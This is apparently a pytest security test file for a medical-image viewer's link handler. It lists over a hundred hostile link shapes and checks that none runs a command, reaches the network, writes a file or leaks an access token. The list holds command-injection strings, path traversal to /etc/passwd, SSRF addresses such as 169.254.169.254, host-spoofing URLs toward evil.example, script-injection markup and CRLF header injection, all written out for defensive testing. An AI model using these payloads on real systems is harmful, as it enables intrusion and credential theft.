"""Hostile links: none may run a command, reach the network, write a file, show markup or leak its token.

Every shape goes through ``parse`` and ``decide``, watched by an audit hook; what is left then is a question
to the user. Those that aim at commands go also through the program that the desktop starts, as an argument.
"""

import os
import re
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from dicomdock.config.servers import Login, ServerProfile
from dicomdock.config.settings import Settings
from dicomdock.errors import LaunchError
from dicomdock.launch.handoff import HandoffServer
from dicomdock.launch.link import parse
from dicomdock.launch.register.common import wrapper_text, write_file
from dicomdock.launch.trust import Allowed, Ask, Refused, TrustStore, decide

TOKEN = "s3cr3t-T0ken"
START = f"slicer://viewer/?access_token={TOKEN}"
GOOD = "&dicomweb_endpoint=https%3A%2F%2Fevil.example%2Fdw"
OWN = ServerProfile("hospital", "https://pacs.test/dicom-web", Login("basic", "alice"))


def endpoint(text: str) -> str:
    return f"{START}&studyUID=1.2&dicomweb_endpoint={text}"


def study(text: str) -> str:
    return f"{START}{GOOD}&studyUID={text}"


def weasis(text: str) -> str:
    return "weasis://?" + text


HOSTILE = [
    # commands
    f"{START}&x=$(touch$IFS{{marker}})",
    f"{START}&x=`touch {{marker}}`",
    f"{START};touch {{marker}};#",
    f"{START}&touch$IFS{{marker}}&",
    f"{START}|touch {{marker}}",
    f"{START}' ; touch {{marker}} ; '",
    f'{START}" ; touch {{marker}} ; "',
    f"{START}\ntouch {{marker}}\n",
    f"{START}%0Atouch%20{{marker}}",
    f"{START} --home /tmp --exec touch",
    study("1.2;touch {marker}"),
    study("$(touch {marker})"),
    endpoint("https://evil.example/$(touch$IFS{marker})"),
    weasis("$dicom:rs -u https://evil.example -r studyUID=1.2 $(touch {marker})"),
    weasis(f'$dicom:rs --url="https://evil.example" -H "Authorization: Bearer {TOKEN}" ; touch {{marker}}'),
    weasis("$dicom:get -l {marker}"),
    weasis('$weasis:config pro="felix.cache {marker}" $dicom:close --all'),
    # paths and files
    endpoint("file:///etc/passwd"),
    endpoint("FILE:/etc/passwd"),
    endpoint("ftp://evil.example/x"),
    endpoint("data:text/html,x"),
    endpoint("javascript:alert(1)"),
    endpoint("unix:/run/docker.sock"),
    endpoint("\\\\evil.example\\share"),
    endpoint("//evil.example/dw"),
    endpoint("/etc/passwd"),
    endpoint("https:/evil.example"),
    endpoint("https:evil.example"),
    endpoint("https://evil.example/../../etc/passwd"),
    endpoint("https://evil.example/%252e%252e/x"),
    endpoint("https://evil.example/a/%2e%2e/x"),
    study("../../../../etc/passwd"),
    study("..%2F..%2Fetc%2Fpasswd"),
    study("/etc/passwd"),
    study("1.2/../../x"),
    study("C:%5CWindows"),
    study("."),
    study("1.2%00.dcm"),
    study("1." * 40 + "1"),
    study("1.2,../x"),
    f"{START}{GOOD}&studyUID=1.2&seriesUID=../../x",
    # other hosts than shown
    endpoint(f"https://pacs.test:{TOKEN}@evil.example/dicom-web"),
    endpoint("https://pacs.test@evil.example/dicom-web"),
    endpoint("https://pacs.test%40evil.example/dicom-web"),
    endpoint("https://pacs.test%2540evil.example/dicom-web"),
    endpoint("https://pacs.test\\@evil.example/dicom-web"),
    endpoint("https://pacs.test%5C.evil.example/dicom-web"),
    endpoint("https://pacs.test%23.evil.example/dicom-web"),
    endpoint("https://pacs.test%3F.evil.example/dicom-web"),
    endpoint("https://pacs.test%00.evil.example/dicom-web"),
    endpoint("https://pacs.test%0d%0aHost:%20evil.example/dicom-web"),
    endpoint("https://pacs.test%20.evil.example/dicom-web"),
    endpoint("https://pacs.test%E2%80%8B/dicom-web"),
    endpoint("https://evil.example%E2%80%AE/dicom-web"),
    endpoint("https://ｐacs.example/dicom-web"),
    endpoint("https://pacs。evil.example/dicom-web"),
    endpoint("https://[evil.example]/"),
    endpoint("https://[::1%25eth0]/"),
    endpoint("https://evil.example:99999/"),
    endpoint("https://evil.example:0/"),
    endpoint("https://evil.example:8o/"),
    endpoint("https://:443/"),
    endpoint("https://"),
    endpoint("https://-evil.example/"),
    endpoint("https://" + "a" * 300 + ".example/"),
    endpoint("https://pacs.test/dicom-web&dicomweb_endpoint=https://evil.example"),
    # machines that no link may touch
    endpoint("http://169.254.169.254/latest/meta-data"),
    endpoint("http://[::ffff:169.254.169.254]/"),
    endpoint("http://2852039166/"),
    endpoint("http://0xa9.0xfe.0xa9.0xfe/"),
    endpoint("http://0251.0376.0251.0376/"),
    endpoint("http://[fe80::1]/"),
    endpoint("http://[fd00:ec2::254]/"),
    endpoint("http://0.0.0.0:8042/"),
    endpoint("http://0/"),
    endpoint("http://192.168.1.1/router"),
    endpoint("http://router.lan/"),
    endpoint("http://127.0.0.1:2042/"),
    endpoint("http://127.1:2042/"),
    endpoint("https://10.0.0.1/"),
    # markup and invisible text
    study("<script>alert(1)</script>"),
    endpoint("https://<b>evil</b>.example/"),
    endpoint("https://evil.example/<img src=x onerror=alert(1)>"),
    endpoint("https://evil.example/%3Cscript%3E"),
    f"{START}{GOOD}&studyUID=1.2&<script>=1",
    "https://ris.test/IHEInvokeImageDisplay?requestType=PATIENT&patientID=<script>alert(1)</script>",
    "https://ris.test/IHEInvokeImageDisplay?requestType=<b>",
    f"slicer://<b>viewer</b>/?access_token={TOKEN}",
    # tokens that would break out of their header, or go astray
    f"slicer://viewer/?studyUID=1.2{GOOD}&access_token={TOKEN}%0d%0aX-Evil:%201",
    f"slicer://viewer/?studyUID=1.2{GOOD}&access_token={TOKEN}%20x",
    f"slicer://viewer/?studyUID=1.2{GOOD}&access_token={TOKEN}&access_token=b",
    f"slicer://viewer/?studyUID=1.2{TOKEN}{GOOD}",
    f"slicer://viewer/?studyUID=1.2{GOOD}#access_token={TOKEN}",
    f"{TOKEN}://viewer/?studyUID=1.2{GOOD}",
    f"https://evil.example/view/{TOKEN}%0d%0a",
    f"https://evil.example/view/{TOKEN}/../../x",
    weasis(f'$dicom:rs -u https://evil.example -r studyUID=1.2 -H "Cookie: {TOKEN}"'),
    weasis(f'$dicom:rs -u https://evil.example -r studyUID=1.2 -H "Authorization: Basic {TOKEN}"'),
    weasis(f'$dicom:rs -u https://evil.example -r studyUID=1.2 -H "Authorization: Bearer {TOKEN}%0aX: y"'),
    "https://ohif.test/viewer/dicomwebproxy?url=https://evil.example/m.json&StudyInstanceUIDs=1.2",
    # size and nonsense
    study("1.2" + ",1.2.3" * 2000),
    "slicer://viewer/?" + "&".join(f"k{n}=1" for n in range(2000)),
    weasis("$dicom:rs " * 500),
    weasis("'" + TOKEN),
    "slicer://" + "%" * 3000,
    "slicer://viewer/?studyUID=%FF%FE&dicomweb_endpoint=%80",
    "slicer:",
    "slicer:viewer?studyUID=1.2",
    "slicer://evil.example/?studyUID=1.2" + GOOD,
    "dicomdock://run?command=touch%20{marker}",
]  # fmt: skip

watched: list[str] = []
watching = [False]


def _hook(event: str, arguments: tuple[object, ...], *, watched=watched, watching=watching) -> None:
    # A hook stays until Python ends, when this module's names are gone already; hence the defaults.
    if watching[0] and (
        event.startswith(
            ("socket.", "subprocess.", "os.exec", "os.posix_spawn", "os.system", "os.fork", "ctypes")
        )
        or (event == "open" and isinstance(arguments[1], str) and arguments[1].strip("rbt"))
        or event in ("os.mkdir", "os.rename", "os.remove", "os.symlink", "exec", "compile")
    ):
        watched.append(event)


sys.addaudithook(_hook)


@contextmanager
def quiet() -> Iterator[None]:
    """Make sure that nothing is sent, started or written meanwhile."""
    watched.clear()
    watching[0] = True
    try:
        yield
    finally:
        watching[0] = False
    assert watched == []


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


@pytest.fixture
def store(settings: Settings, tmp_path: Path) -> TrustStore:
    return TrustStore(settings, tmp_path / "none.toml")


@pytest.mark.parametrize("shape", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_link_comes_to_a_question_at_most(shape: str, store: TrustStore, tmp_path: Path) -> None:
    link = shape.replace("{marker}", str(tmp_path / "RAN"))
    parse("slicer://viewer/?studyUID=1.2&dicomweb_endpoint=https://é.test")  # all that is imported lazily
    said = ""
    reasons: list[str] = []
    with quiet():
        try:
            request = parse(link)
            decision = decide(request, [OWN], store)
        except LaunchError as error:
            reasons.append(str(error))
        else:
            said = repr(request) + repr(decision)
            assert not isinstance(decision, Allowed)
            if isinstance(decision, Refused):
                reasons.append(decision.reason)
            if isinstance(decision, Ask):
                question = decision.question
                reasons += [question.origin, *question.warnings]
                assert re.fullmatch(r"[a-z0-9._-]+|\[[0-9a-f:]+\]", question.host)
                assert question.host != "pacs.test"
                assert question.origin == f"{question.scheme}://{question.host}:{question.port}"
            for resource in request.resources:
                assert re.fullmatch(r"[0-9.]+(/[0-9.]+)*", str(resource))
    assert TOKEN not in said + "".join(reasons)
    assert not any(set('<>&"') & set(text) or not text.isprintable() for text in reasons)
    assert list(tmp_path.iterdir()) == [tmp_path / "home"]


@pytest.mark.slow
def test_the_desktops_argument_is_never_more_than_an_argument(
    settings: Settings, home: Path, tmp_path: Path
) -> None:
    wrapper = home / "dicomdock-open"
    write_file(wrapper, wrapper_text(settings), mode=0o755)
    arrived: list[str] = []
    links = [shape.replace("{marker}", str(tmp_path / "RAN")) for shape in (*HOSTILE[:17], *HOSTILE[17::6])]
    links += ["-c", "--help", "--scheme=slicer://", "@/etc/passwd", "$(touch {marker})", "\udcff\udcfe", ""]
    with HandoffServer(settings, lambda link: arrived.append(link) or ""):
        said = b""
        for link in links:
            ran = subprocess.run([wrapper, os.fsencode(link)], capture_output=True, timeout=30, check=False)
            assert ran.returncode == (0 if arrived and arrived[-1] == link else 2)
            said += ran.stdout + ran.stderr
    ours = ("slicer:", "dicomdock:", "weasis:")
    assert arrived == [link for link in links if link.startswith(ours) and len(link) <= 16384]
    assert TOKEN.encode() not in said
    assert not (tmp_path / "RAN").exists()
    for file in home.rglob("*"):
        assert not file.is_file() or TOKEN.encode() not in file.read_bytes(), file
